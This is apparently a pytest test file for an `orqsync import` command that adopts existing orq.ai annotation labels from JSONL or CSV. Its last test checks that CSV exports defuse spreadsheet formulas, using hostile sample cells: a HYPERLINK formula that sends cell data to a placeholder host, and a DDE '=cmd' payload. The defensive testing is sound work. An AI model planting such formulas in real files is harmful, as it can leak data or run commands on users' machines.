"""`orqsync import`: adopt labels that already exist in orq.ai, sending nothing."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest

from orqsync.review.render import NO_CHANGES

A = """\
version: 1
spans:
  - trace_id: t1
    span_id: s1
    annotations:
      rating: good
      defects: [spelling, grammatical]
      confidence_score: 0.5
  - trace_id: t1
    span_id: s2
    annotations:
      correction: "Shorter, please: #1"
      approved: false
"""

ROWS = [
    {"trace_id": "0123", "span_id": "1e10", "key": "rating", "value": "good"},
    {"trace_id": "0123", "span_id": "1e10", "key": "defects", "value": ["spelling", "grammatical"]},
    {"trace_id": "cb22", "span_id": "274c", "key": "confidence_score", "value": 0.95},
    {"trace_id": "cb22", "span_id": "274c", "key": "approved", "value": True},
    {"trace_id": "cb22", "span_id": "274c", "key": "correction", "value": "no"},
]


def jsonl(rows: list[dict]) -> str:
    return "".join(json.dumps(row) + "\n" for row in rows)


def state_of(project) -> dict:
    return json.loads((project.root / ".orqsync" / "state.json").read_text())


def labels_of(project) -> dict[tuple[str, str], dict]:
    """The labels an export shows, per span."""
    lines = project.run("export").stdout.splitlines()[1:]
    return {(row["trace_id"], row["span_id"]): row["annotations"] for row in map(json.loads, lines)}


@pytest.fixture
def here(make_project, monkeypatch):
    """A project with no annotation file yet, run from its directory."""
    project = make_project()
    monkeypatch.chdir(project.root)
    return project


def test_import_writes_quoted_sorted_yaml_and_the_state_and_plan_finds_nothing(here):
    here.write("labels.jsonl", jsonl(ROWS))
    result = here.run("import", "labels.jsonl", "--author", "Dana", "--commit", "c0ffee")
    assert result.exit_code == 0, result.output
    plan_id = "import-" + hashlib.sha256(jsonl(ROWS).encode()).hexdigest()[:12]
    assert result.stdout == (
        "Imported labels.jsonl: declared 5 in annotations/imported.yaml, added 5 to the state "
        f"as {plan_id}. Nothing was sent to orq.ai.\n"
    )
    assert (here.root / "annotations" / "imported.yaml").read_text() == (
        "# Labels adopted from labels.jsonl by `orqsync import`: they already\n"
        "# existed in orq.ai. Edit them here like any other annotation.\n"
        "version: 1\n"
        "spans:\n"
        '  - trace_id: "0123"\n'
        '    span_id: "1e10"\n'
        "    annotations:\n"
        '      defects: ["grammatical", "spelling"]\n'
        '      rating: "good"\n'
        '  - trace_id: "cb22"\n'
        '    span_id: "274c"\n'
        "    annotations:\n"
        "      approved: true\n"
        "      confidence_score: 0.95\n"
        '      correction: "no"\n'
    )
    state = state_of(here)
    [provenance] = state["provenance"]
    assert {k: v for k, v in provenance.items() if k not in ("id", "applied_at")} == {
        "author": "Dana",
        "commit": "c0ffee",
        "plan_id": plan_id,
    }
    assert [(s["trace_id"], s["span_id"]) for s in state["spans"]] == [
        ("0123", "1e10"),
        ("cb22", "274c"),
    ]
    plan = here.run("plan", "--detailed-exitcode")
    assert plan.exit_code == 0, plan.output
    assert plan.stdout == NO_CHANGES + "\n"
    assert not (here.root / ".orqsync" / "emulator.db").exists()  # nothing was sent
    [entry] = json.loads(here.run("state", "history", "--format", "json").stdout)
    assert (entry["operation"], entry["plan_id"], entry["counts"]["create"]) == (
        "import",
        plan_id,
        5,
    )
    assert (entry["serial_before"], entry["serial_after"]) == (0, 1)


def test_csv_cells_are_read_by_each_keys_definition(here):
    here.write(
        "labels.csv",
        "trace_id,span_id,key,value,created_at\n"
        "t1,s1,defects,spelling|grammatical,2026-01-01\n"
        't1,s2,defects,"[""ambiguity""]",2026-01-01\n'
        "t1,s1,confidence_score,0.25,2026-01-01\n"
        "t1,s1,approved,true,2026-01-01\n"
        't1,s1,correction,"Commas, ""quotes"" and #hash",2026-01-01\n'
        "t1,s1,rating,bad,2026-01-01\n",
    )
    assert here.run("import", "labels.csv").exit_code == 0
    assert labels_of(here) == {
        ("t1", "s1"): {
            "approved": True,
            "confidence_score": 0.25,
            "correction": 'Commas, "quotes" and #hash',
            "defects": ["grammatical", "spelling"],
            "rating": "bad",
        },
        ("t1", "s2"): {"defects": ["ambiguity"]},
    }
    assert here.run("plan", "--detailed-exitcode").exit_code == 0


def test_every_bad_row_is_reported_with_its_line_and_nothing_is_written(here):
    here.write(
        "bad.jsonl",
        jsonl(
            [
                {"trace_id": "t1", "span_id": "s1", "key": "rating", "value": "goood"},
                {"trace_id": "t1", "span_id": "s1", "key": "ratng", "value": "good"},
            ]
        )
        + "\n"
        + "{not json\n"
        + jsonl(
            [
                {"trace_id": "t1", "span_id": "s2", "key": "confidence_score", "value": 2},
                {"trace_id": "t1", "span_id": "s2", "key": "confidence_score", "value": "0.5"},
                {"trace_id": 7, "span_id": " s3", "key": "approved", "value": "yes"},
                {"trace_id": "t1", "span_id": "s4", "key": "rating"},
                {"trace_id": "t1", "span_id": "s5", "key": "defects", "value": ["typo"]},
            ]
        ),
    )
    result = here.run("import", "bad.jsonl")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.splitlines() == [
        'bad.jsonl:1: Invalid value "goood" for "rating". Valid options are: good, bad '
        "(hint: use one of the options, or add it to definitions.yaml after adding it in orq.ai)",
        'bad.jsonl:2: unknown annotation key "ratng": no such definition in definitions.yaml '
        "(hint: known keys: approved, confidence_score, correction, defects, rating; add it to "
        "definitions.yaml first)",
        "bad.jsonl:4: not valid JSON (Expecting property name enclosed in double quotes) "
        "(hint: one object a line)",
        'bad.jsonl:5: Value 2 is out of range [0, 1] for "confidence_score" '
        "(hint: use a value inside the range, or change the definition)",
        'bad.jsonl:6: "confidence_score" is a range and takes a number, got "0.5" '
        "(hint: write a number from 0 to 1)",
        'bad.jsonl:7: "approved" is a boolean and takes true or false, got "yes" '
        "(hint: write true or false (yes/no/on/off are not booleans here))",
        "bad.jsonl:7: span_id has leading or trailing spaces (hint: remove the spaces)",
        "bad.jsonl:7: trace_id must be text, got 7 (hint: write the trace_id in quotes)",
        "bad.jsonl:8: missing value (hint: each line needs trace_id, span_id, key and value)",
        'bad.jsonl:9: Invalid value "typo" for "defects". Valid options are: grammatical, '
        "spelling, hallucination, ambiguity (hint: use one of the options, or add it to "
        "definitions.yaml after adding it in orq.ai)",
        "error: 10 problems found; nothing was written",
    ]
    assert not (here.root / "annotations").exists()
    assert not (here.root / ".orqsync" / "state.json").exists()


def test_csv_problems_name_the_line_in_the_file(here):
    here.write(
        "bad.csv",
        "trace_id,span_id,key,value\n"
        "t1,s1,approved,maybe\n"
        't1,s1,correction,"two\nlines"\n'
        "t1,s1,defects,[spelling\n"
        "t1,s1,rating\n",
    )
    result = here.run("import", "bad.csv")
    assert result.stderr.splitlines() == [
        'bad.csv:2: "approved" is a boolean and takes true or false, got maybe '
        "(hint: write true or false (yes/no/on/off are not booleans here))",
        'bad.csv:5: "defects": [spelling is not a JSON list (hint: write a JSON list or a|b)',
        "bad.csv:6: 3 cells, the header has 4 (hint: quote cells that hold a comma)",
        "error: 3 problems found; nothing was written",
    ]
    missing = here.write("cols.csv", "trace,span_id,key,value\nt1,s1,rating,good\n")
    result = here.run("import", str(missing.name))
    assert result.stderr.splitlines()[0] == (
        "cols.csv:1: the header has no column trace_id (hint: the columns are trace_id, "
        "span_id, key, value (others are ignored), or the file is one written by "
        "`orqsync export --format csv`)"
    )


def test_rows_that_contradict_the_yaml_or_the_state_are_refused(here):
    here.write("annotations/a.yaml", A)
    assert here.run("apply", "--auto-approve").exit_code == 0
    here.write("annotations/a.yaml", A.replace("      approved: false\n", ""))
    # approved is now only in the state (as if the YAML line was dropped but not applied)
    here.write(
        "labels.jsonl",
        jsonl(
            [
                {"trace_id": "t1", "span_id": "s1", "key": "rating", "value": "bad"},
                {"trace_id": "t1", "span_id": "s2", "key": "approved", "value": True},
                {"trace_id": "t9", "span_id": "s9", "key": "rating", "value": "good"},
                {"trace_id": "t9", "span_id": "s9", "key": "rating", "value": "bad"},
            ]
        ),
    )
    result = here.run("import", "labels.jsonl")
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert lines[0] == (
        'labels.jsonl:1: "rating" of span t1/s1 is declared at annotations/a.yaml:6 as "good"; '
        'the import says "bad" (hint: leave the row out, or change the YAML first: import adopts '
        "only labels the repository does not declare otherwise)"
    )
    assert lines[1].startswith(
        'labels.jsonl:2: "approved" of span t1/s2 is in the state as false (applied by '
    )
    assert lines[1].endswith(
        "; the import says true (hint: the state records what orqsync wrote: leave the row out, "
        "or if orq.ai really holds the imported value, `orqsync state rm` the label first)"
    )
    assert lines[2] == (
        'labels.jsonl:4: "rating" of span t9/s9 is also on line 3 with another value ("good") '
        "(hint: keep one of the two rows)"
    )
    assert lines[3] == "error: 3 problems found; nothing was written"
    assert not (here.root / "annotations" / "imported.yaml").exists()


def test_labels_already_in_the_state_or_the_yaml_with_the_same_value_are_fine(here):
    here.write("annotations/a.yaml", A)
    assert here.run("apply", "--auto-approve").exit_code == 0
    serial = state_of(here)["serial"]
    here.write("annotations/a.yaml", A.replace("      approved: false\n", ""))
    here.write(
        "labels.jsonl",
        jsonl(
            [
                {"trace_id": "t1", "span_id": "s1", "key": "rating", "value": "good"},
                {"trace_id": "t1", "span_id": "s2", "key": "approved", "value": False},
                {"trace_id": "t1", "span_id": "s2", "key": "rating", "value": "bad"},
            ]
        ),
    )
    result = here.run("import", "labels.jsonl")
    assert result.exit_code == 0, result.output
    assert result.stdout == (
        "Imported labels.jsonl: declared 2 in annotations/imported.yaml, added 1 to the state as "
        "import-"
        + hashlib.sha256((here.root / "labels.jsonl").read_bytes()).hexdigest()[:12]
        + ". Nothing was sent to orq.ai.\n"
    )
    assert state_of(here)["serial"] == serial + 1
    assert here.run("plan", "--detailed-exitcode").exit_code == 0
    again = here.run("import", "labels.jsonl")  # twice: nothing changes
    assert (
        again.stdout == "Nothing to import: the 3 labels are already declared and in the state.\n"
    )


def test_an_export_imported_into_an_empty_repository_gives_the_same_labels(here):
    here.write("annotations/a.yaml", A)
    assert here.run("apply", "--auto-approve").exit_code == 0
    before = labels_of(here)
    assert here.run("export", "--format", "csv", "--out", "labels.csv").exit_code == 0
    assert here.run("export", "--out", "labels.jsonl").exit_code == 0
    for name in ("labels.csv", "labels.jsonl"):
        (here.root / "annotations" / "a.yaml").unlink(missing_ok=True)
        (here.root / "annotations" / "imported.yaml").unlink(missing_ok=True)
        (here.root / ".orqsync" / "state.json").unlink()
        result = here.run("import", name)
        assert result.exit_code == 0, result.output
        assert labels_of(here) == before
        assert here.run("plan", "--detailed-exitcode").exit_code == 0


def test_an_existing_out_file_is_kept_unless_forced(here):
    here.write("labels.jsonl", jsonl(ROWS[:1]))
    here.write("annotations/imported.yaml", "version: 1\nspans: []\n")
    refused = here.run("import", "labels.jsonl")
    assert refused.exit_code == 1
    assert refused.stderr == (
        "error: annotations/imported.yaml already exists\n"
        "  hint: pass --force to replace it, or choose another file with --out\n"
    )
    assert here.run("import", "labels.jsonl", "--force").exit_code == 0
    assert '      rating: "good"' in (here.root / "annotations/imported.yaml").read_text()


def test_an_out_file_that_sources_do_not_match_is_rolled_back(here):
    here.write("labels.jsonl", jsonl(ROWS))
    result = here.run("import", "labels.jsonl", "--out", "elsewhere/labels.yaml")
    assert result.exit_code == 1
    assert result.stderr == (
        "error: --out elsewhere/labels.yaml: the file is not matched by sources "
        "(annotations/**/*.yaml) in orqsync.yaml\n"
        "  hint: write it where sources look, for example --out annotations/imported.yaml\n"
    )
    assert not (here.root / "elsewhere" / "labels.yaml").exists()
    assert not (here.root / ".orqsync" / "state.json").exists()


def test_the_format_comes_from_the_extension_or_the_flag(here):
    here.write("labels.txt", jsonl(ROWS))
    unknown = here.run("import", "labels.txt")
    assert unknown.stderr == (
        "error: cannot tell the format of labels.txt from its name\n"
        "  hint: pass --format jsonl or --format csv\n"
    )
    assert here.run("import", "labels.txt", "--format", "jsonl").exit_code == 0


def test_awkward_text_survives_the_yaml_round_trip_exactly(here):
    awkward = (
        'tab\there, "quotes", back\\slash, é, 🙂, nel\x85, ls\u2028, del\x7f, bom\ufeff: # - [x]'
    )
    rows = [
        {"trace_id": "t1", "span_id": "s1", "key": "correction", "value": awkward},
        {"trace_id": "0x1F", "span_id": "007", "key": "rating", "value": "good"},
        {"trace_id": "null", "span_id": "true", "key": "approved", "value": False},
        {"trace_id": "t~3.x", "span_id": "a:b", "key": "confidence_score", "value": 1e-05},
    ]
    here.write("labels.jsonl", jsonl(rows))
    result = here.run("import", "labels.jsonl")
    assert result.exit_code == 0, result.output
    assert here.run("plan", "--detailed-exitcode").exit_code == 0
    assert labels_of(here) == {
        ("t1", "s1"): {"correction": awkward},
        ("0x1F", "007"): {"rating": "good"},
        ("null", "true"): {"approved": False},
        ("t~3.x", "a:b"): {"confidence_score": 1e-05},
    }


def test_a_lone_surrogate_is_refused_not_written(here):
    here.write(
        "labels.jsonl",
        '{"trace_id": "t1", "span_id": "s1", "key": "correction", "value": "bad \\ud800"}\n',
    )
    result = here.run("import", "labels.jsonl")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "labels.jsonl:1: the row holds a lone surrogate (\\ud800-\\udfff): not valid Unicode"
    )


ALICE_AND_BOB = {
    "annotations/a.yaml": """\
version: 1
metadata: {reviewerId: alice}
spans:
  - trace_id: t1
    span_id: s1
    annotations:
      rating: good
  - trace_id: t1
    span_id: s2
    metadata: {identityId: "user 1"}
    annotations:
      correction: "two\\r\\nlines, #1"
      approved: true
""",
    "annotations/b.yaml": """\
version: 1
metadata: {reviewerId: bob}
spans:
  - trace_id: t1
    span_id: s1
    annotations:
      defects: [spelling]
""",
}

IMPORTED = """\
# Labels adopted from labels.{fmt} by `orqsync import`: they already
# existed in orq.ai. Edit them here like any other annotation.
version: 1
metadata: {{reviewerId: alice}}
spans:
  - trace_id: "t1"
    span_id: "s1"
    annotations:
      rating: "good"
  - trace_id: "t1"
    span_id: "s1"
    metadata: {{reviewerId: bob}}
    annotations:
      defects: ["spelling"]
  - trace_id: "t1"
    span_id: "s2"
    metadata: {{identityId: "user 1"}}
    annotations:
      approved: true
      correction: "two\\r\\nlines, #1"
"""


def applied_of(project) -> dict[tuple[str, str, str], tuple[object, dict]]:
    """Each label's value and metadata, as the state holds them."""
    return {
        (span["trace_id"], span["span_id"], key): (label["value"], label.get("metadata", {}))
        for span in state_of(project)["spans"]
        for key, label in span["annotations"].items()
    }


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_an_export_imported_keeps_each_labels_metadata_and_plans_no_change(here, fmt):
    for name, text in ALICE_AND_BOB.items():
        here.write(name, text)
    assert here.run("apply", "--auto-approve").exit_code == 0
    before = applied_of(here)
    assert before[("t1", "s1", "defects")][1] == {"reviewerId": "bob", "source": "orqsync"}
    assert before[("t1", "s2", "correction")] == (
        "two\r\nlines, #1",
        {"identityId": "user 1", "reviewerId": "alice", "source": "orqsync"},
    )
    assert here.run("export", "--format", fmt, "--out", f"labels.{fmt}").exit_code == 0
    for name in ALICE_AND_BOB:
        (here.root / name).unlink()
    (here.root / ".orqsync" / "state.json").unlink()
    result = here.run("import", f"labels.{fmt}")
    assert result.exit_code == 0, result.output
    assert applied_of(here) == before
    written = (here.root / "annotations" / "imported.yaml").read_text(encoding="utf-8")
    assert written == IMPORTED.format(fmt=fmt)
    plan = here.run("plan", "--detailed-exitcode")
    assert plan.exit_code == 0, plan.output
    assert here.run("import", f"labels.{fmt}").stdout.startswith("Nothing to import")


MANIFEST = '{"manifest":{"format":"orqsync-export","version":1,"commit":"","rows":1}}'
OLD_HEADER = "rating.commit,rating.author,rating.applied_at,rating.plan_id,rating.run_url"


@pytest.mark.parametrize(
    ("header", "provenance"),
    [
        (f"{OLD_HEADER},rating.metadata", "c0ffee,Alice,2026-01-01T00:00:00Z,p-1,"),
        (
            f"{OLD_HEADER},rating.uncommitted,rating.metadata",
            "c0ffee,Alice,2026-01-01T00:00:00Z,p-1,," + "ab" * 32,
        ),
    ],
    ids=["before-uncommitted", "with-uncommitted"],
)
def test_csv_exports_with_and_without_the_uncommitted_column_are_read(here, header, provenance):
    here.write(
        "labels.csv",
        f"# {MANIFEST}\n"
        f"trace_id,span_id,rating,{header}\n"
        f't1,s1,good,{provenance},"{{""reviewerId"":""alice"",""source"":""orqsync""}}"\n',
    )
    result = here.run("import", "labels.csv")
    assert result.exit_code == 0, result.output
    assert applied_of(here) == {
        ("t1", "s1", "rating"): ("good", {"reviewerId": "alice", "source": "orqsync"})
    }
    assert here.run("plan", "--detailed-exitcode").exit_code == 0


def export_rows(*rows: dict) -> str:
    return MANIFEST + "\n" + "".join(json.dumps(row) + "\n" for row in rows)


def test_metadata_without_a_name_the_project_gives_every_label_is_refused(here):
    here.write(
        "labels.jsonl",
        export_rows(
            {
                "trace_id": "t1",
                "span_id": "s1",
                "annotations": {"approved": True, "rating": "good"},
                "metadata": {"rating": {"reviewerId": "alice"}},
            }
        ),
    )
    result = here.run("import", "labels.jsonl")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        'labels.jsonl:2: "approved" of span t1/s1 has the metadata {}, without source, which '
        "orqsync.yaml gives every label (1 more label of the file too) (hint: an annotation file "
        "cannot take a name of the project's metadata away: remove source from metadata in "
        "orqsync.yaml, or import into a project without it)",
        "error: 1 problem found; nothing was written",
    ]
    assert not (here.root / "annotations").exists()


def test_metadata_that_contradicts_the_yaml_the_state_or_another_row_is_refused(here):
    here.write("annotations/a.yaml", A)
    assert here.run("apply", "--auto-approve").exit_code == 0
    here.write("annotations/a.yaml", A.replace("      approved: false\n", ""))
    alice = {"reviewerId": "alice", "source": "orqsync"}
    here.write(
        "labels.jsonl",
        export_rows(
            {
                "trace_id": "t1",
                "span_id": "s1",
                "annotations": {"rating": "good"},
                "metadata": {"rating": alice},
            },
            {
                "trace_id": "t1",
                "span_id": "s2",
                "annotations": {"approved": False},
                "metadata": {"approved": alice},
            },
            {
                "trace_id": "t9",
                "span_id": "s9",
                "annotations": {"rating": "good"},
                "metadata": {"rating": alice},
            },
            {
                "trace_id": "t9",
                "span_id": "s9",
                "annotations": {"rating": "good"},
                "metadata": {"rating": {"source": "orqsync"}},
            },
        ),
    )
    result = here.run("import", "labels.jsonl")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        'labels.jsonl:2: "rating" of span t1/s1 is declared at annotations/a.yaml:6 with the '
        'metadata {"source": "orqsync"}; the import says {"reviewerId": "alice", "source": '
        '"orqsync"} (hint: leave the row out, or change the YAML first: import adopts only '
        "labels the repository does not declare otherwise)",
        'labels.jsonl:3: "approved" of span t1/s2 is in the state with the metadata '
        '{"source": "orqsync"}; the import says {"reviewerId": "alice", "source": "orqsync"} '
        "(hint: the state records what orqsync wrote: leave the row out, or if orq.ai really "
        "holds the imported metadata, `orqsync state rm` the label first)",
        'labels.jsonl:5: "rating" of span t9/s9 is also on line 4 with other metadata '
        '({"reviewerId": "alice", "source": "orqsync"}) (hint: keep one of the two rows)',
        "error: 3 problems found; nothing was written",
    ]


def test_metadata_an_annotation_file_cannot_hold_is_reported_with_its_line(here):
    row = {"trace_id": "t1", "span_id": "s1", "annotations": {"rating": "good"}}
    here.write(
        "labels.jsonl",
        export_rows(
            {**row, "metadata": {"rating": {"reviewer": "alice"}}},
            {**row, "span_id": "s2", "metadata": {"rating": {"source": 7}}},
            {**row, "span_id": "s3", "metadata": ["rating"]},
        ),
    )
    assert here.run("import", "labels.jsonl").stderr.splitlines() == [
        'labels.jsonl:2: the metadata of "rating": "reviewer" is not a metadata name an '
        "annotation file can hold (hint: the names are identityId, identity_id, source, "
        "reviewerId)",
        'labels.jsonl:3: the metadata of "rating": source must be text, got 7 '
        "(hint: write it in quotes)",
        'labels.jsonl:4: "metadata" must be a JSON object, got ["rating"]',
        "error: 3 problems found; nothing was written",
    ]
    here.write(
        "labels.csv",
        f"# {MANIFEST}\ntrace_id,span_id,rating,rating.metadata\nt1,s1,good,{{nope\n",
    )
    assert here.run("import", "labels.csv").stderr.splitlines()[0] == (
        'labels.csv:3: the cell "rating.metadata" is not JSON '
        '(hint: write a JSON object like {"source": "..."})'
    )


# CSV exports and spreadsheet formulas -------------------------------------------------------

FORMULAS = """\
version: 1
definitions:
  note: {type: text}
  score: {type: range, min: -1, max: 1}
"""
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "'already quoted",
    "plain",
]


@pytest.mark.parametrize("raw", [False, True], ids=["neutralized", "raw"])
def test_csv_export_defuses_formulas_unless_raw_and_import_reads_both_back(
    make_project, monkeypatch, raw
):
    spans = "".join(
        f"  - trace_id: t1\n    span_id: s{n}\n    annotations: {{note: {json.dumps(text)}, "
        f"score: {-0.5 if n % 2 else 0.25}}}\n"
        for n, text in enumerate(HOSTILE)
    )
    project = make_project(
        definitions=FORMULAS, **{"annotations/a.yaml": "version: 1\nspans:\n" + spans}
    )
    monkeypatch.chdir(project.root)
    applied = project.run("apply", "--auto-approve", "--author", "=cmd|' /C calc'!A0")
    assert applied.exit_code == 0, applied.output
    before = labels_of(project)
    args = ["export", "--format", "csv", "--out", "labels.csv"] + (["--raw"] if raw else [])
    assert project.run(*args).exit_code == 0
    text = (project.root / "labels.csv").read_text(encoding="utf-8")
    manifest = json.loads(text.splitlines()[0][2:])["manifest"]
    assert manifest["formulas"] == ("raw" if raw else "neutralized")
    rows = list(csv.reader(io.StringIO("\n".join(text.splitlines()[1:]))))
    header, body = rows[0], rows[1:]
    notes = [row[header.index("note")] for row in body]
    authors = {row[header.index("note.author")] for row in body}
    scores = [row[header.index("score")] for row in body]
    if raw:
        assert notes == HOSTILE and authors == {"=cmd|' /C calc'!A0"}
    else:
        assert notes == ["'" + t if t[0] in "=+-@\t'" else t for t in HOSTILE]
        assert authors == {"'=cmd|' /C calc'!A0"}
        assert all(
            not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            for row in body
            for cell in row
            if cell not in scores
        )
    assert "-0.5" in scores  # numbers are written as numbers, never defused
    # JSONL stays as it is
    jsonl_text = project.run("export").stdout
    assert json.dumps(HOSTILE[0]) in jsonl_text
    # import reads the export back to the same values
    (project.root / "annotations" / "a.yaml").unlink()
    (project.root / ".orqsync" / "state.json").unlink()
    result = project.run("import", "labels.csv")
    assert result.exit_code == 0, result.output
    assert labels_of(project) == before
